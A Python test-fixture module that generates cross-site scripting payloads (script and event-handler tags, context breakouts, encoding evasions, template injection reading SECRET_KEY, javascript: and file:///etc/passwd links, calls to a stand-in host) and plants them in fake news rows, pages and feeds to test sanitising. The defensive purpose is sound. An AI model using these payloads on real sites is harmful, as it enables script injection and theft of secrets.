"""
What somebody might write into a report, a comment or a form to have it run in another's browser.

Each of `PAYLOADS` would set ``window.__pwned``, open a dialog, or ask another server, if a page did
not show it as mere words. They are our own; the ways are common knowledge (OWASP's cheat sheets on
cross-site scripting list most).
"""

from __future__ import annotations

import json
from html import escape

#: What a payload does when it runs.
ACT = "window.__pwned=1"
#: A server that no page has a reason to ask.
ELSEWHERE = "https://elsewhere.invalid"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{ACT}</script>",
    "script from elsewhere": f'<script src="{ELSEWHERE}/s.js"></script>',
    "script in odd case": f"<ScRiPt/x>{ACT}</sCrIpT >",
    "script that is split": f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    "picture": f"<img src=x onerror={ACT}>",
    "picture from elsewhere": f'<img src="{ELSEWHERE}/p.png" srcset="{ELSEWHERE}/q.png 2x">',
    "picture without end": f'<img src="x" onerror="{ACT}" ',
    "drawing": f"<svg onload={ACT}><circle r=9 /></svg>",
    "drawing with script": f"<svg><script>{ACT}</script></svg>",
    "drawing that moves": f"<svg><animate onbegin={ACT} attributeName=x dur=1s></svg>",
    "drawing with link": f'<svg><a xlink:href="javascript:{ACT}"><text y=9>x</text></a></svg>',
    "formula": f"<math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
    "frame": f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    "frame of script": f'<iframe src="javascript:parent.{ACT}"></iframe>',
    "object": f'<object data="data:text/html,<script>{ACT}</script>"></object>',
    "embedded": f'<embed src="javascript:{ACT}">',
    "opens itself": f"<details open ontoggle={ACT}>x</details>",
    "takes the focus": f"<input autofocus onfocus={ACT}>",
    "film": f"<video><source onerror={ACT}></video>",
    "sound from elsewhere": f'<audio autoplay src="{ELSEWHERE}/a.ogg"></audio>',
    "running line": f"<marquee onstart={ACT}>x</marquee>",
    "whole body": f"</p></main><body onload={ACT}>",
    "goes elsewhere": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    "another base": f'<base href="{ELSEWHERE}/">',
    "style from elsewhere": f'<link rel=stylesheet href="{ELSEWHERE}/s.css">',
    "style": f'<style>@import "{ELSEWHERE}/s.css";*{{background:url({ELSEWHERE}/b)}}</style>',
    "style of one": f'<b style="background:url({ELSEWHERE}/c);position:fixed;inset:0">x</b>',
    "form to elsewhere": f'<form action="{ELSEWHERE}/"><button autofocus>Sign in</button></form>',
    "ends an attribute": f'" autofocus onfocus="{ACT}" x="',
    "ends another attribute": f"' autofocus onfocus='{ACT}' x='",
    "attribute without marks": f"x onmouseover={ACT} ",
    "ends a title": f"</title><script>{ACT}</script>",
    "ends a field": f"</textarea><script>{ACT}</script>",
    "ends a script": f"</script><script>{ACT}</script>",
    "ends a style": f"</style><script>{ACT}</script>",
    "ends a remark": f"--><script>{ACT}</script>",
    "ends data": f"]]><script>{ACT}</script>",
    "ends JSON": f'"}}</script><script>{ACT}</script>',
    "ends a string": f"';{ACT};//",
    "ends a line of script": f"\u2028{ACT}\u2029",
    "hidden script": f'<noscript><p title="</noscript><img src=x onerror={ACT}>"></noscript>',
    "in a template": f"<template><script>{ACT}</script></template><x-a>x</x-a>",
    "named element": '<a id="__pwned"></a><form id="document"></form>',
    "htmx": f'<b hx-get="{ELSEWHERE}/h" hx-trigger="load" hx-on::load="{ACT}">x</b>',
    "our own elements": f'<wl-map data-src="{ELSEWHERE}/m.json"></wl-map>',
    "entities": f"&lt;script&gt;{ACT}&lt;/script&gt;",
    "entities twice": f"&amp;lt;script&amp;gt;{ACT}&amp;lt;/script&amp;gt;",
    "by per cent": f"%3Cscript%3E{ACT}%3C/script%3E",
    "wide signs": f"\uff1cscript\uff1e{ACT}\uff1c/script\uff1e",
    "by backslash": f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    "template of the server": "{% load x %}{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "template of a page": f"{{{{constructor.constructor('{ACT}')()}}}}${{{ACT}}}",
    "markdown link": f"[x](javascript:{ACT}) [y](data:text/html,<script>{ACT}</script>)",
    "markdown picture": f"![x]({ELSEWHERE}/m.png) <javascript:{ACT}>",
    "markdown title": f'[x](/about/ "[[c1]] onmouseover={ACT}") [[c1]]',
    "turned round": f"\u202e<script>{ACT}</script>\u2066",
    "formula of a sheet": '=HYPERLINK("https://elsewhere.invalid/?"&A1,"x")',
}

#: Addresses that must never become links.
ADDRESSES = (
    f"javascript:{ACT}", f"JaVaScRiPt:{ACT}", f" \tjava\nscript:{ACT}", f"vbscript:{ACT}",
    f"data:text/html,<script>{ACT}</script>", f"javascript://valley.example/%0a{ACT}",
    f'https://valley.example/"><script>{ACT}</script>',
    f"https://valley.example/' onclick='{ACT}", "file:///etc/passwd", "//elsewhere.invalid/x",
)  # fmt: skip

#: Two sentences whose figures are read, around a payload that is part of what is said.
_TEXT = (
    "On 3 May 2008 soldiers killed {killed} militants in Basra, said Colonel {payload} of the "
    "Iraqi army.\n\nPolice said that {hurt} civilians were wounded in Baghdad on 4 May 2008. "
    "“We found {killed} bodies {payload} here,” the doctor said."
)


def groups(size: int) -> list[str]:
    """The payloads, so many in one string."""
    every = list(PAYLOADS.values())
    return [" ".join(every[at : at + size]) for at in range(0, len(every), size)]


def rows() -> bytes:
    """Reports as lines of JSON, whose fields are taken to the letter."""
    made = []
    for number, payload in enumerate(groups(4)):
        row = {
            "id": f"hostile-{number} {payload}",
            "title": f"Report {number} {payload}",
            "outlet": f"Outlet {number % 5} {payload if number % 5 == 0 else ''}".strip(),
            "author": f"Author {payload}",
            "url": ADDRESSES[number % len(ADDRESSES)] + f"#{number}",
            "published": "2008-05-05",
            "text": _TEXT.format(killed=11 + number, hurt=71 + number, payload=payload),
            "comments": [
                {"author": f"Reader {payload}", "text": f"No, {5 + number} were killed. {payload}"}
            ],
        }
        made.append(json.dumps(row))
    return "\n".join(made).encode()


def pages() -> dict[str, bytes]:
    """Pages of the web by the name of their file."""
    return {f"page-{number}.html": page(payload) for number, payload in enumerate(groups(8))}


def page(payload: str) -> bytes:
    """A page of the web that carries a payload wherever a page says something of itself."""
    quoted = escape(payload)
    about = json.dumps({"@type": "NewsArticle", "headline": payload, "author": {"name": payload}})
    ends = about.replace("</", "<\\/")
    return f"""<!doctype html><html lang="en"><head><title>Page {quoted}</title>
<meta name="author" content="{quoted}"><meta property="og:site_name" content="{quoted}">
<meta property="article:published_time" content="2008-05-06T10:00:00Z">
<link rel="canonical" href="javascript:{ACT}">
<script type="application/ld+json">{ends}</script></head><body onload="{ACT}">
<article><h1>Page {quoted}</h1><p class="byline">By {quoted}</p>{payload}
<p>On 5 May 2008 gunmen killed 17 farmers near Kirkuk, the governor {quoted} said.</p>
<p>Another 23 people were wounded in Mosul on the same day.</p></article>
<div id="comments"><ol><li class="comment" id="c1"><cite class="fn">{quoted}</cite>
<p>They say 19 people were killed. {quoted}</p></li></ol></div></body></html>""".encode()


def feed() -> bytes:
    """An Atom feed whose entries carry payloads as words, as HTML and as XHTML."""
    entries = "".join(
        f"""<entry><id>tag:{number}</id><title type="html">Entry {escape(escape(payload))}</title>
<link href="{escape(ADDRESSES[number % len(ADDRESSES)])}"/><updated>2008-05-07T00:00:00Z</updated>
<author><name>{escape(payload)}</name></author><category term="{escape(payload)}"/>
<content type="html">{escape(f"<p>On 6 May 2008 rebels killed {31 + number} police in Basra.</p>")}
{escape(payload)}</content></entry>"""
        for number, payload in enumerate(groups(8))
    )
    return (
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Wire</title>'
        f"<id>tag:feed</id><updated>2008-05-07T00:00:00Z</updated>{entries}</feed>"
    ).encode()
